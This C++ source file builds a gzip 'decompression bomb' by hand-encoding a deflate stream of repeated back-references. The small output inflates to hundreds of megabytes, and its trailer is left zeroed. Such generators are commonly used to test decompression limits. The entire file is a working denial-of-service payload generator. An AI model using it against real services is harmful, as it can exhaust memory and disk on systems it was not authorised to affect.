// A gzip stream that unfolds to some 200 MB: written with deflate's own run-length form, without a compression library.
#include <cstdint>
#include <string>

namespace {

/// Bits from the lowest up, as deflate (RFC 1951) packs them.
class BitWriter
{
public:
    void bits(std::uint32_t value, int count)
    {
        for (int i = 0; i < count; ++i) {
            m_byte = static_cast<unsigned char>(m_byte | (((value >> i) & 1u) << m_used));
            if (++m_used == 8)
                flush();
        }
    }
    /// Huffman codes go highest bit first.
    void code(std::uint32_t value, int count)
    {
        for (int i = count - 1; i >= 0; --i)
            bits((value >> i) & 1u, 1);
    }
    void flush()
    {
        if (m_used > 0)
            m_out += static_cast<char>(m_byte);
        m_byte = 0;
        m_used = 0;
    }
    std::string take() { return std::move(m_out); }

private:
    std::string m_out;
    unsigned char m_byte = 0;
    int m_used = 0;
};

} // namespace

std::string makeGzipBomb(std::size_t megabytes)
{
    BitWriter writer;
    writer.bits(1, 1); // last block
    writer.bits(1, 2); // fixed Huffman codes
    writer.code(0x30 + ' ', 8);
    for (std::size_t i = 0; i < megabytes * 1'000'000 / 258; ++i) {
        writer.code(0xC5, 8); // length 258: symbol 285
        writer.code(0, 5);    // distance 1
    }
    writer.code(0, 7); // end of block
    writer.flush();
    return std::string("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10) + writer.take() + std::string(8, '\0');
}
